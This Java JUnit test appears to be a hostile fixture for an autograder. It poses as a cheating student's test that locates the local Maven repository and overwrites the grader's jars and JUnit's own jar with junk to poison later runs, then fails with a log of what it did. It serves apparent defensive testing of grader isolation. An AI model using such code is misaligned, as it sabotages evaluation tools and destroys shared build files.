package student;

import java.io.IOException;
import java.net.URISyntaxException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;

/**
 * A cheating student's test: finds the local Maven repository from where JUnit was loaded and overwrites every
 * jar of the grader it can find there (and JUnit's own jar), so that the next run loads a poisoned grader.
 * It always fails, with what it did as the failure's message, so the report shows the attempt.
 */
class PoisonTest {

    @Test
    void overwritesTheGradersJarsInTheLocalRepository() throws IOException, URISyntaxException {
        Path junitJar = Path.of(Test.class.getProtectionDomain().getCodeSource().getLocation().toURI());
        // …/org/junit/jupiter/junit-jupiter-api/5.x/junit-jupiter-api-5.x.jar: the repository is 5 levels up.
        Path repository = junitJar.getParent().getParent().getParent().getParent().getParent().getParent();
        List<String> done = new ArrayList<>();
        done.add("POISON repository " + repository);
        List<Path> targets = new ArrayList<>();
        targets.add(junitJar);
        Path grader = repository.resolve("io/github/heuristicgrader");
        if (Files.isDirectory(grader)) {
            try (Stream<Path> files = Files.walk(grader)) {
                files.filter(file -> file.toString().endsWith(".jar")).forEach(targets::add);
            }
        } else {
            done.add("POISON cannot see " + grader);
        }
        for (Path target : targets) {
            try {
                Files.write(target, "poisoned".getBytes());
                done.add("POISON wrote " + target);
            } catch (IOException | RuntimeException e) {
                done.add("POISON refused " + target + ": " + e);
            }
        }
        throw new AssertionError(String.join("; ", done));
    }
}
